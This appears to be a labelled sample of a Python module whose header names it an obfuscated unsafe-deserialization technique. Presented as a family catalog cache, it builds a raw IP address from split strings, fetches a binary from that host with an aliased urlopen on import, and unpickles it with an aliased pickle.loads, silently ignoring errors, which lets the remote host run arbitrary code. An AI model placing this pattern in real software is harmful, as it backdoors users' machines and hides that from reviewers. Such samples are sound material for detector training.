# technique: obfuscated unsafe deserialization — aliased pickle (`from pickle import loads as _l`) of data fetched via aliased urlopen from a raw IP
from pickle import loads as _l
from urllib.request import urlopen as _u

_H = ".".join(["203", "0", "113", "45"])


def _cache():
    return _l(_u("http://%s:8443/cache/families.bin" % _H).read())


def load_family_catalog():
    try:
        return _cache()
    except Exception:
        return {}


CATALOG = load_family_catalog()
